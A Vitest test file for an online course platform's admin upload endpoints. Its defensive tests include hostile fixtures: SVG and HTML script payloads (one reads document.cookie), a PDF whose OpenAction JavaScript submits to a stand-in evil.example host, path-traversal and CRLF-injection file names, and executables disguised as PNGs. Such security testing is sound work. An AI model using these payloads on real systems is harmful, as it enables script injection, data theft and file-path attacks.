import fs from 'node:fs'
import path from 'node:path'
import type { Readable } from 'node:stream'
import v8 from 'node:v8'
import vm from 'node:vm'
import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest'
import { action as uploadsAction } from '#app/routes/admin/uploads.tsx'
import { loader as materialFileLoader } from '#app/routes/resources/material-file.ts'
import { action as xhrAction } from '#app/routes/resources/material-upload.ts'
import { setStorage } from '#app/services/storage/index.server.ts'
import type { FileStorage } from '#app/services/storage/storage.ts'
import { resetEnvCache } from '#app/utils/env.server.ts'
import { sampleChartPng, sampleClassRecording, samplePdf } from '#db/seed/sample-files.ts'
import { useTestDatabase } from '#tests/support/db.ts'
import { insertCourse } from '#tests/support/fixtures.ts'
import { callRoute, getRequest, signedInUser, toastOf } from '#tests/support/requests.ts'
import { useTestStorage } from '#tests/support/storage.ts'

const t = useTestDatabase()
const files = useTestStorage()
let sequence = 0

const PDF = await samplePdf({ title: 'Deal Guide', subtitle: 'ARV', sections: [{ heading: 'Comps', paragraphs: ['Three of them.'] }] })
const MP4 = await sampleClassRecording()
const HTML = new TextEncoder().encode('<!DOCTYPE html><html><body><script>alert(1)</script></body></html>')
const SVG_WITH_SCRIPT = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script><circle r="5"/></svg>'
const UUID = '[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}'

function admin() {
	return signedInUser(t.db, { role: 'admin' })
}

async function course(title = 'Upload Course') {
	sequence += 1
	return insertCourse(t.db, { title: `${title} ${sequence}` })
}

type Part = { name: string; value: string } | { name: string; file: { name: string; bytes: Uint8Array; type?: string } }

function uploadRequest(cookie: string, parts: Part[], pathname = '/dashboard/admin/uploads') {
	const body = new FormData()
	for (const part of parts) {
		if ('value' in part) body.append(part.name, part.value)
		else
			body.append(
				part.name,
				new File([part.file.bytes as Uint8Array<ArrayBuffer>], part.file.name, { type: part.file.type ?? 'application/octet-stream' }),
			)
	}
	return new Request(`http://localhost${pathname}`, { method: 'POST', body, headers: { Cookie: cookie } })
}

function target(courseId: number, weekNumber: number, topic: string): Part[] {
	return [
		{ name: 'courseId', value: String(courseId) },
		{ name: 'weekNumber', value: String(weekNumber) },
		{ name: 'topic', value: topic },
	]
}

/** Posts parts to the uploads page for week 1, 'Intro', of the course. */
function uploadToIntroWeek(cookie: string, courseId: number, ...parts: Part[]) {
	return callRoute(uploadsAction, uploadRequest(cookie, [...target(courseId, 1, 'Intro'), ...parts]))
}

function serve(itemId: number, cookie: string) {
	return callRoute(materialFileLoader, getRequest(`/files/materials/${itemId}`, { cookie }), { itemId: String(itemId) })
}

function storedKeys() {
	if (!fs.existsSync(files.dir)) return []
	return fs
		.readdirSync(files.dir, { recursive: true, withFileTypes: true })
		.filter((entry) => entry.isFile() && !entry.name.startsWith('.'))
		.map((entry) => path.relative(files.dir, path.join(entry.parentPath, entry.name)).split(path.sep).join('/'))
}

async function weeksOf(courseId: number) {
	return t.db.selectFrom('course_materials').selectAll().where('course_id', '=', courseId).orderBy('week_number').execute()
}

async function itemsOf(weekId: number) {
	return t.db.selectFrom('material_items').selectAll().where('material_id', '=', weekId).orderBy('title').execute()
}

async function errorsOf(response: Response) {
	const body = (await response.json()) as { result?: { error?: Record<string, string[] | null> } }
	return Object.values(body.result?.error ?? {}).flatMap((messages) => messages ?? [])
}

beforeEach(() => {
	fs.rmSync(path.join(files.dir, 'courses'), { recursive: true, force: true })
})

afterEach(() => {
	setStorage(files.storage)
	delete process.env.MAX_UPLOAD_MB
	resetEnvCache()
})

describe('uploading a week of materials', () => {
	test('two PDFs, a video and a YouTube link become one week whose files are stored under its key', async () => {
		const { id: adminId, cookie } = await admin()
		const { id: courseId } = await course()
		const response = await callRoute(
			uploadsAction,
			uploadRequest(cookie, [
				...target(courseId, 1, 'Finding Deals'),
				{ name: 'addZoom', value: 'on' },
				{ name: 'zoomLink', value: 'https://zoom.us/j/123456789' },
				{ name: 'materialFiles', file: { name: 'Deal Guide.pdf', bytes: PDF, type: 'application/pdf' } },
				// The browser's claim is ignored: the bytes say PDF.
				{ name: 'materialFiles', file: { name: 'comps.pdf', bytes: PDF, type: 'text/html' } },
				{ name: 'recordingFiles', file: { name: 'week-1.mp4', bytes: MP4, type: 'video/mp4' } },
				{ name: 'youtubeUrl', value: 'https://youtu.be/dQw4w9WgXcQ' },
			]),
		)
		expect(response.status).toBe(302)
		expect(response.headers.get('Location')).toBe(`/dashboard/admin/uploads?course=${courseId}`)
		const [week] = await weeksOf(courseId)
		expect(week).toMatchObject({ week_number: 1, topic: 'Finding Deals', zoom_link: 'https://zoom.us/j/123456789' })
		const items = await itemsOf(week!.id)
		const byTitle = (a: { title: string }, b: { title: string }) => a.title.localeCompare(b.title)
		expect(items.sort(byTitle).map((item) => [item.title, item.category, item.type, item.mime_type])).toEqual([
			['comps.pdf', 'material', 'document', 'application/pdf'],
			['Deal Guide.pdf', 'material', 'document', 'application/pdf'],
			['week-1.mp4', 'recording', 'video', 'video/mp4'],
			['YouTube: Finding Deals', 'recording', 'video', null],
		])
		expect(items.find((item) => item.title === 'YouTube: Finding Deals')?.file_url).toBe('https://youtu.be/dQw4w9WgXcQ')
		const keys = items.flatMap((item) => (item.storage_key ? [item.storage_key] : []))
		for (const key of keys) expect(key).toMatch(new RegExp(`^courses/${courseId}/weeks/${week!.id}/(material|recording)/[0-9a-f-]{36}-`))
		expect(storedKeys().sort()).toEqual(keys.sort())
		const audit = await t.db.selectFrom('audit_log').selectAll().where('actor_id', '=', adminId).execute()
		expect(audit.map((row) => row.action)).toEqual(['materials.upload'])
	})

	test('an upload into an existing week number adds to that week and takes the new topic', async () => {
		const { cookie } = await admin()
		const { id: courseId } = await course()
		const first = await callRoute(
			uploadsAction,
			uploadRequest(cookie, [...target(courseId, 2, 'Rehab'), { name: 'materialFiles', file: { name: 'a.pdf', bytes: PDF } }]),
		)
		expect(first.status).toBe(302)
		const second = await callRoute(
			uploadsAction,
			uploadRequest(cookie, [...target(courseId, 2, 'Rehab Budgets'), { name: 'materialFiles', file: { name: 'b.pdf', bytes: PDF } }]),
		)
		expect(second.status).toBe(302)
		const weeks = await weeksOf(courseId)
		expect(weeks).toHaveLength(1)
		expect(weeks[0]!.topic).toBe('Rehab Budgets')
		expect((await itemsOf(weeks[0]!.id)).map((item) => item.title)).toEqual(['a.pdf', 'b.pdf'])
	})

	test('a file name already in the week is refused with the spec message and nothing new is stored', async () => {
		const { cookie } = await admin()
		const { id: courseId } = await course()
		await uploadToIntroWeek(cookie, courseId, { name: 'materialFiles', file: { name: 'notes.pdf', bytes: PDF } })
		const before = storedKeys()
		const response = await uploadToIntroWeek(
			cookie,
			courseId,
			{ name: 'materialFiles', file: { name: 'other.pdf', bytes: PDF } },
			{ name: 'materialFiles', file: { name: 'Notes.pdf', bytes: PDF } },
		)
		expect(response.status).toBe(409)
		expect(await errorsOf(response)).toEqual(['A file with the name "Notes.pdf" already exists. Please rename your file and try again.'])
		expect(storedKeys()).toEqual(before)
		const [week] = await weeksOf(courseId)
		expect(await itemsOf(week!.id)).toHaveLength(1)
	})

	test('a .pdf whose content is HTML is refused: nothing stored, no row', async () => {
		const { cookie } = await admin()
		const { id: courseId } = await course()
		const response = await uploadToIntroWeek(
			cookie,
			courseId,
			{ name: 'materialFiles', file: { name: 'good.pdf', bytes: PDF } },
			{ name: 'materialFiles', file: { name: 'evil.pdf', bytes: HTML, type: 'application/pdf' } },
		)
		expect(response.status).toBe(415)
		expect((await errorsOf(response))[0]).toMatch(/^"evil\.pdf" cannot be uploaded/)
		expect(storedKeys()).toEqual([])
		expect(await weeksOf(courseId)).toEqual([])
	})

	test.each([
		['an SVG image', 'logo.svg', new TextEncoder().encode('<svg xmlns="http://www.w3.org/2000/svg"></svg>'), 415],
		['a script', 'run.js', new TextEncoder().encode('alert(1)'), 415],
		['a PDF posing as a video recording', 'lecture.mp4', PDF, 415],
	])('%s is refused', async (_, name, bytes, status) => {
		const { cookie } = await admin()
		const { id: courseId } = await course()
		const field = name.endsWith('.mp4') ? 'recordingFiles' : 'materialFiles'
		const response = await uploadToIntroWeek(cookie, courseId, { name: field, file: { name, bytes } })
		expect(response.status).toBe(status)
		expect(storedKeys()).toEqual([])
		expect(await weeksOf(courseId)).toEqual([])
	})

	test('a PDF sent as a class recording is refused', async () => {
		const { cookie } = await admin()
		const { id: courseId } = await course()
		const response = await uploadToIntroWeek(cookie, courseId, { name: 'recordingFiles', file: { name: 'slides.pdf', bytes: PDF } })
		expect(response.status).toBe(415)
		expect((await errorsOf(response))[0]).toContain('is not a video')
	})

	test('the form rules: course, week number, topic, Zoom link, YouTube link', async () => {
		const { cookie } = await admin()
		const { id: courseId } = await course()
		const cases: Array<[Part[], string]> = [
			[
				[
					{ name: 'weekNumber', value: '1' },
					{ name: 'topic', value: 'x' },
					{ name: 'youtubeUrl', value: 'https://youtu.be/dQw4w9WgXcQ' },
				],
				'No course selected. Please select a course first.',
			],
			[[...target(courseId, 0, 'x'), { name: 'youtubeUrl', value: 'https://youtu.be/dQw4w9WgXcQ' }], 'Week number must be 1 or greater'],
			[
				[
					{ name: 'courseId', value: String(courseId) },
					{ name: 'weekNumber', value: '1' },
					{ name: 'topic', value: '' },
					{ name: 'youtubeUrl', value: 'https://youtu.be/dQw4w9WgXcQ' },
				],
				'Topic is required',
			],
			[
				[...target(courseId, 1, 'x'), { name: 'addZoom', value: 'on' }, { name: 'zoomLink', value: '' }],
				'Please add a Zoom link or uncheck the Zoom link option',
			],
			[[...target(courseId, 1, 'x'), { name: 'youtubeUrl', value: 'https://vimeo.com/123' }], 'Please enter a valid YouTube URL'],
		]
		for (const [parts, message] of cases) {
			const response = await callRoute(uploadsAction, uploadRequest(cookie, parts))
			expect(response.status, message).toBe(400)
			expect(await errorsOf(response)).toContain(message)
		}
		expect(await weeksOf(courseId)).toEqual([])
	})

	test('a valid form with files but an invalid field stores nothing', async () => {
		const { cookie } = await admin()
		const { id: courseId } = await course()
		const response = await uploadToIntroWeek(
			cookie,
			courseId,
			{ name: 'materialFiles', file: { name: 'a.pdf', bytes: PDF } },
			{ name: 'youtubeUrl', value: 'not a link' },
		)
		expect(response.status).toBe(400)
		expect(await errorsOf(response)).toContain('Please enter a valid YouTube URL')
		expect(storedKeys()).toEqual([])
		expect(await weeksOf(courseId)).toEqual([])
	})

	test('a storage failure leaves no database row and removes what was already stored', async () => {
		const { cookie } = await admin()
		const { id: courseId } = await course()
		vi.spyOn(console, 'error').mockImplementation(() => {})
		let puts = 0
		const failing: FileStorage = Object.assign(Object.create(files.storage) as FileStorage, {
			put: async (key: string, body: Readable | Uint8Array, options: { contentType: string }) => {
				puts += 1
				if (puts === 2) {
					if (!(body instanceof Uint8Array)) body.resume()
					throw new Error('disk full')
				}
				return files.storage.put(key, body, options)
			},
		})
		setStorage(failing)
		const response = await uploadToIntroWeek(
			cookie,
			courseId,
			{ name: 'materialFiles', file: { name: 'a.pdf', bytes: PDF } },
			{ name: 'materialFiles', file: { name: 'b.pdf', bytes: PDF } },
		)
		expect(response.status).toBe(503)
		expect((await errorsOf(response))[0]).toBe('The file storage could not save "b.pdf", so nothing was saved. Please try again later.')
		expect(await weeksOf(courseId)).toEqual([])
		expect(storedKeys()).toEqual([])
	})

	test('the XMLHttpRequest endpoint answers JSON and sets the toast', async () => {
		const { cookie } = await admin()
		const { id: courseId } = await course()
		const ok = await callRoute(
			xhrAction,
			uploadRequest(
				cookie,
				[...target(courseId, 3, 'Renting'), { name: 'materialFiles', file: { name: 'lease.pdf', bytes: PDF } }],
				'/uploads/materials',
			),
		)
		expect(ok.status).toBe(200)
		expect(await ok.json()).toEqual({ ok: true, courseId, weekNumber: 3 })
		expect(ok.headers.get('Set-Cookie')).toMatch(/toast=/)
		const refused = await callRoute(
			xhrAction,
			uploadRequest(
				cookie,
				[...target(courseId, 3, 'Renting'), { name: 'youtubeUrl', value: 'https://vimeo.com/1' }],
				'/uploads/materials',
			),
		)
		expect(refused.status).toBe(400)
		expect(await errorsOf(refused)).toEqual(['Please enter a valid YouTube URL'])
	})

	test('a topic alone saves the week (docs/decisions/046); on an existing week it changes the topic and keeps its files and link', async () => {
		const { cookie } = await admin()
		const { id: courseId } = await course()
		// Without JavaScript the Zoom field is always there: it counts only when the box is ticked.
		const saved = await callRoute(
			uploadsAction,
			uploadRequest(cookie, [...target(courseId, 2, 'Financing'), { name: 'zoomLink', value: 'https://zoom.us/j/1' }]),
		)
		expect(saved.status).toBe(302)
		expect(await toastOf(saved)).toMatchObject({ type: 'success', title: 'Week 2 saved' })
		expect(await weeksOf(courseId)).toMatchObject([{ week_number: 2, topic: 'Financing', zoom_link: null }])

		const withFile = await callRoute(
			xhrAction,
			uploadRequest(
				cookie,
				[
					...target(courseId, 2, 'Financing'),
					{ name: 'addZoom', value: 'on' },
					{ name: 'zoomLink', value: 'https://zoom.us/j/2' },
					{ name: 'materialFiles', file: { name: 'terms.pdf', bytes: PDF } },
				],
				'/uploads/materials',
			),
		)
		expect(withFile.status).toBe(200)
		const renamed = await callRoute(xhrAction, uploadRequest(cookie, target(courseId, 2, 'Private money'), '/uploads/materials'))
		expect(renamed.status).toBe(200)
		expect(await renamed.json()).toEqual({ ok: true, courseId, weekNumber: 2 })
		const [week] = await weeksOf(courseId)
		expect(week).toMatchObject({ topic: 'Private money', zoom_link: 'https://zoom.us/j/2' })
		expect((await itemsOf(week!.id)).map((item) => item.title)).toEqual(['terms.pdf'])
		expect(await weeksOf(courseId)).toHaveLength(1)
	})

	test('students cannot upload', async () => {
		const student = await signedInUser(t.db)
		const { id: courseId } = await course()
		const response = await callRoute(
			uploadsAction,
			uploadRequest(student.cookie, [...target(courseId, 1, 'x'), { name: 'materialFiles', file: { name: 'a.pdf', bytes: PDF } }]),
		)
		expect(response.status).toBe(302)
		expect(response.headers.get('Location')).toBe('/dashboard')
		expect(storedKeys()).toEqual([])
	})
})

describe('files that lie about their type or their name', () => {
	test.each([
		[
			'an SVG with a script, named .png and sent as image/svg+xml',
			'diagram.png',
			new TextEncoder().encode(SVG_WITH_SCRIPT),
			'image/svg+xml',
			/^"diagram\.png" cannot be uploaded: its content is a web page or SVG image/,
		],
		[
			'an SVG with a script behind a byte-order mark, an XML prolog and a comment, named .png',
			'chart.png',
			new TextEncoder().encode(`\uFEFF<?xml version="1.0"?>\n<!-- chart -->\n${SVG_WITH_SCRIPT}`),
			'image/png',
			/^"chart\.png" cannot be uploaded: its content is a web page or SVG image/,
		],
		[
			'an SVG with a script named .svg',
			'diagram.svg',
			new TextEncoder().encode(SVG_WITH_SCRIPT),
			'image/svg+xml',
			/^"diagram\.svg" is not an allowed file type/,
		],
		['a PDF named .png', 'photo.png', PDF, 'image/png', /^"photo\.png" is not a valid \.png file: its content does not match its name\.$/],
		[
			'a Windows executable named .png',
			'setup.png',
			Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00'), Buffer.alloc(256)]),
			'image/png',
			/^"setup\.png" is not a valid \.png file/,
		],
		[
			'a Linux executable named .png',
			'run.png',
			Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(256)]),
			'image/png',
			/^"run\.png" is not a valid \.png file/,
		],
	])('%s is refused with 415: nothing stored, no row', async (_, name, bytes, type, message) => {
		const { cookie } = await admin()
		const { id: courseId } = await course()
		const response = await uploadToIntroWeek(cookie, courseId, { name: 'materialFiles', file: { name, bytes, type } })
		expect(response.status).toBe(415)
		expect((await errorsOf(response))[0]).toMatch(message)
		expect(storedKeys()).toEqual([])
		expect(await weeksOf(courseId)).toEqual([])
	})

	test('a real PNG with an SVG script after its image data is stored and served as image/png, never as SVG', async () => {
		const { cookie } = await admin()
		const { id: courseId } = await course()
		const polyglot = Buffer.concat([sampleChartPng([1, 2, 3], { width: 32, height: 32 }), Buffer.from(SVG_WITH_SCRIPT)])
		const response = await uploadToIntroWeek(cookie, courseId, {
			name: 'materialFiles',
			file: { name: 'chart.png', bytes: polyglot, type: 'image/svg+xml' },
		})
		expect(response.status).toBe(302)
		const [week] = await weeksOf(courseId)
		const [item] = await itemsOf(week!.id)
		expect(item!.mime_type).toBe('image/png')
		const served = await serve(item!.id, cookie)
		expect(served.status).toBe(200)
		// The server adds X-Content-Type-Options: nosniff to every response (tests/e2e/security-http.spec.ts).
		expect(served.headers.get('Content-Type')).toBe('image/png')
		expect(served.headers.get('Content-Disposition')).toBe('inline; filename="chart.png"')
	})

	test('a PDF whose /OpenAction runs JavaScript is served inline only inside a CSP sandbox, with nosniff', async () => {
		const { cookie } = await admin()
		const { id: courseId } = await course()
		const scripted = Buffer.from(
			'%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>\nendobj\n' +
				'2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n' +
				'3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\n' +
				"4 0 obj\n<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\); this.submitForm\\('https://evil.example'\\)) >>\nendobj\n" +
				'trailer\n<< /Root 1 0 R >>\n%%EOF\n',
		)
		const response = await uploadToIntroWeek(cookie, courseId, {
			name: 'materialFiles',
			file: { name: 'handout.pdf', bytes: scripted, type: 'application/pdf' },
		})
		expect(response.status).toBe(302)
		const [week] = await weeksOf(courseId)
		const [item] = await itemsOf(week!.id)
		const served = await serve(item!.id, cookie)
		expect(served.status).toBe(200)
		expect(served.headers.get('Content-Type')).toBe('application/pdf')
		expect(served.headers.get('Content-Disposition')).toBe('inline; filename="handout.pdf"')
		expect(served.headers.get('Content-Security-Policy')).toBe('sandbox')
		expect(served.headers.get('X-Content-Type-Options')).toBe('nosniff')
	})

	test.each([
		['a ../ path', '../../etc/passwd.pdf', 'passwd.pdf', 'passwd.pdf'],
		// Browsers send backslashes as they are and a double quote as %22 (as FormData does here).
		['a Windows ..\\ path', '..\\..\\Windows\\win.ini.pdf', 'win.ini.pdf', 'win.ini.pdf'],
		['a double quote', 'say "hi".pdf', 'say "hi".pdf', 'say-hi-.pdf'],
		['control characters and NUL', 'report\u0000\u0007\u001b[31m\u007f.pdf', 'report[31m.pdf', 'report-31m.pdf'],
	])(
		'a file name with %s is stored under a server-chosen key in its week and served under a clean name',
		async (_, name, title, servedName) => {
			const { cookie } = await admin()
			const { id: courseId } = await course()
			const response = await uploadToIntroWeek(cookie, courseId, { name: 'materialFiles', file: { name, bytes: PDF } })
			expect(response.status).toBe(302)
			const [week] = await weeksOf(courseId)
			const [item] = await itemsOf(week!.id)
			expect(item!.title).toBe(title)
			expect(item!.storage_key).toMatch(
				new RegExp(`^courses/${courseId}/weeks/${week!.id}/material/${UUID}-${servedName.replace(/\./g, '\\.')}$`),
			)
			expect(storedKeys()).toEqual([item!.storage_key])
			const served = await serve(item!.id, cookie)
			expect(served.status).toBe(200)
			expect(served.headers.get('Content-Disposition')).toBe(`inline; filename="${servedName}"`)
		},
	)

	test('a line break spelled out in an RFC 5987 file name (no browser sends one) is not taken as a file: no file stored', async () => {
		const { cookie } = await admin()
		const { id: courseId } = await course()
		const boundary = `----control-${sequence}`
		const field = (fieldName: string, value: string) =>
			`--${boundary}\r\nContent-Disposition: form-data; name="${fieldName}"\r\n\r\n${value}\r\n`
		const body = Buffer.concat([
			Buffer.from(
				field('courseId', String(courseId)) +
					field('weekNumber', '1') +
					field('topic', 'Intro') +
					`--${boundary}\r\nContent-Disposition: form-data; name="materialFiles"; filename*=UTF-8''evil%0D%0AX-Injected%3A%201%00.pdf\r\nContent-Type: application/pdf\r\n\r\n`,
			),
			PDF,
			Buffer.from(`\r\n--${boundary}--\r\n`),
		])
		const request = new Request('http://localhost/dashboard/admin/uploads', {
			method: 'POST',
			body,
			headers: { Cookie: cookie, 'Content-Type': `multipart/form-data; boundary=${boundary}` },
		})
		const response = await callRoute(uploadsAction, request)
		// What is left is the week's topic, which makes the week on its own (docs/decisions/046).
		expect(response.status).toBe(302)
		expect(await toastOf(response)).toMatchObject({ title: 'Week 1 saved' })
		expect(storedKeys()).toEqual([])
		const weeks = await weeksOf(courseId)
		expect(weeks).toHaveLength(1)
		expect(await itemsOf(weeks[0]!.id)).toEqual([])
	})
})

describe('the size limit', () => {
	/** A multipart body whose one file is `fileBytes` long, generated as it is read: never held in memory. */
	function streamedUpload(courseId: number, cookie: string, fileBytes: number) {
		const boundary = `----upload-test-${Date.now()}`
		const encoder = new TextEncoder()
		const field = (name: string, value: string) => `--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`
		const head = encoder.encode(
			field('courseId', String(courseId)) +
				field('weekNumber', '1') +
				field('topic', 'Huge') +
				`--${boundary}\r\nContent-Disposition: form-data; name="recordingFiles"; filename="huge.mp4"\r\nContent-Type: video/mp4\r\n\r\n`,
		)
		const tail = encoder.encode(`\r\n--${boundary}--\r\n`)
		const chunk = new Uint8Array(64 * 1024)
		chunk.set(MP4.subarray(0, chunk.length))
		let sent = 0
		let stage: 'head' | 'file' | 'tail' | 'done' = 'head'
		const body = new ReadableStream<Uint8Array>({
			pull(controller) {
				if (stage === 'head') {
					controller.enqueue(head)
					stage = 'file'
				} else if (stage === 'file') {
					const size = Math.min(chunk.length, fileBytes - sent)
					controller.enqueue(chunk.slice(0, size))
					sent += size
					if (sent >= fileBytes) stage = 'tail'
				} else if (stage === 'tail') {
					controller.enqueue(tail)
					stage = 'done'
				} else controller.close()
			},
		})
		return new Request('http://localhost/dashboard/admin/uploads', {
			method: 'POST',
			body,
			duplex: 'half',
			headers: { Cookie: cookie, 'Content-Type': `multipart/form-data; boundary=${boundary}` },
		} as RequestInit)
	}

	test('a 60 MB file is refused with 413 while streaming: nothing stored, no row, memory stays flat', async () => {
		const { cookie } = await admin()
		const { id: courseId } = await course()
		const request = streamedUpload(courseId, cookie, 60 * 1024 * 1024)
		// What the upload keeps alive is measured, not the garbage a collector has yet to reclaim:
		// collect before each sample.
		v8.setFlagsFromString('--expose-gc')
		const gc = vm.runInNewContext('gc') as (options?: { type: 'minor' | 'major'; execution: 'sync' }) => void
		// A buffer the upload lets go of dies young: a minor collection reclaims it cheaply.
		const sample = () => {
			gc({ type: 'minor', execution: 'sync' })
			return process.memoryUsage()
		}
		gc()
		const before = sample()
		let peakRss = before.rss
		let peakHeap = before.heapUsed + before.arrayBuffers
		const sampler = setInterval(() => {
			const now = sample()
			peakRss = Math.max(peakRss, now.rss)
			peakHeap = Math.max(peakHeap, now.heapUsed + now.arrayBuffers)
		}, 10)
		const response = await callRoute(uploadsAction, request)
		clearInterval(sampler)
		const after = sample()
		peakRss = Math.max(peakRss, after.rss)

		expect(response.status).toBe(413)
		const errors = await errorsOf(response)
		expect(errors[0]).toBe(
			'"huge.mp4" is larger than the 50 MB limit per file. Please upload large recordings to a video hosting service such as YouTube and add the link instead.',
		)
		expect(storedKeys()).toEqual([])
		expect(fs.readdirSync(files.dir, { recursive: true }).filter((name) => String(name).includes('.tmp'))).toEqual([])
		expect(await weeksOf(courseId)).toEqual([])
		const megabytes = (bytes: number) => bytes / (1024 * 1024)
		expect(megabytes(peakRss - before.rss)).toBeLessThan(20)
		expect(megabytes(peakHeap - before.heapUsed - before.arrayBuffers)).toBeLessThan(20)
	})

	test('a video over 20 MB is uploaded with a warning naming it in the toast', async () => {
		const { cookie } = await admin()
		const { id: courseId } = await course()
		const response = await callRoute(uploadsAction, streamedUpload(courseId, cookie, 21 * 1024 * 1024))
		expect(response.status).toBe(302)
		const value = decodeURIComponent(/toast=([^;]*)/.exec(response.headers.get('Set-Cookie') ?? '')?.[1] ?? '')
		const toast = JSON.parse(atob(value.split('.')[0]!)) as { title: string; description?: string }
		expect(toast.title).toBe('Materials uploaded successfully')
		expect(toast.description).toContain('huge.mp4 (21.0 MB)')
		const [week] = await weeksOf(courseId)
		expect((await itemsOf(week!.id)).map((item) => [item.title, item.size_bytes])).toEqual([['huge.mp4', 21 * 1024 * 1024]])
	})

	test('the limit follows MAX_UPLOAD_MB', async () => {
		process.env.MAX_UPLOAD_MB = '1'
		resetEnvCache()
		const { cookie } = await admin()
		const { id: courseId } = await course()
		const response = await callRoute(uploadsAction, streamedUpload(courseId, cookie, 2 * 1024 * 1024))
		expect(response.status).toBe(413)
		expect((await errorsOf(response))[0]).toContain('larger than the 1 MB limit per file')
		expect(storedKeys()).toEqual([])
	})
})
